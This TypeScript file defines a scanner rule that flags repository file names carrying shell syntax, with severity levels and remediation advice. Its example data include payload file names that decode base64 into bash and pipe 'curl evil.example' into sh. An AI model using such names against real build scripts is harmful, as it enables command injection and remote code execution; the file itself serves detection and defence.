// CG-FN-001: shell syntax in a file name (the hackerbot-claw DataDog case: a file named
// documentation/rules/$(echo${IFS}…|base64${IFS}-d${IFS}|${IFS}bash).md).
import type {Severity} from '../../report/finding.js'
import type {RuleMeta} from '../../report/rule-meta.js'
import {BRACE_COMMAND, COMMAND_SUBSTITUTION, IFS, PIPE_INTERPRETER, STRONG_HOST, URL_SCHEME, WEAK_HOST} from '../refs/patterns.js'
import type {Hit, NameRule} from '../types.js'

export const meta: RuleMeta = {
  id: 'CG-FN-001',
  title: 'Shell syntax in a file name',
  severity: 'critical',
  description: `A path with command substitution, \${IFS}, a pipe into an interpreter, base64 -d or a brace-listed command is a payload waiting for a script that loops over changed files unquoted (for f in $(git diff --name-only)…). Critical for those; high for | ; < > and a lone backtick; low for &. Brace globs like {a,b}.txt and $id route files are not reported.`,
  remediation: 'rename or delete the file; in scripts read file lists NUL-separated (git diff -z) and always quote "$file"',
  example: {bad: `docs/$(echo\${IFS}Y3VybA==|base64\${IFS}-d|bash).md`, good: 'app/routes/$userId.tsx'},
  examples: {
    flagged: [`docs/$(echo\${IFS}Y3VybA==|base64\${IFS}-d|bash).md`, 'build/`curl evil.example|sh`.txt'],
    clean: ['app/routes/$userId.tsx', 'src/app/[id]/page.tsx'],
  },
}

export const rule: NameRule = {
  meta,
  check(path: string): Hit[] {
    const reasons: string[] = []
    let severity: Severity | undefined
    const raise = (level: Severity, reason: string) => {
      reasons.push(reason)
      const order: Severity[] = ['info', 'low', 'medium', 'high', 'critical']
      if (!severity || order.indexOf(level) > order.indexOf(severity)) severity = level
    }
    if (COMMAND_SUBSTITUTION.test(path) && /\$\(|`[^`]+`/.test(path)) raise('critical', 'command substitution')
    if (IFS.test(path)) raise('critical', `\${IFS} as a space`)
    if (PIPE_INTERPRETER.test(path)) raise('critical', 'pipe into an interpreter / base64 -d')
    if (BRACE_COMMAND.test(path)) raise('critical', 'brace-listed command')
    const operators = [...new Set(path.match(/[|;<>]/g) ?? [])]
    if (operators.length > 0) raise('high', `shell operator(s) ${operators.join(' ')}`)
    if ((path.match(/`/g) ?? []).length === 1) raise('high', 'backtick')
    if (path.includes('&') && !severity) raise('low', 'ampersand')
    if (!severity) return []
    const host = URL_SCHEME.exec(path) ?? STRONG_HOST.exec(path) ?? (severity === 'critical' ? WEAK_HOST.exec(path) : null)
    return [{severity, message: `${reasons.join(', ')} in the file name${host ? `, fetching from "${host[0]}"` : ''}`}]
  },
}
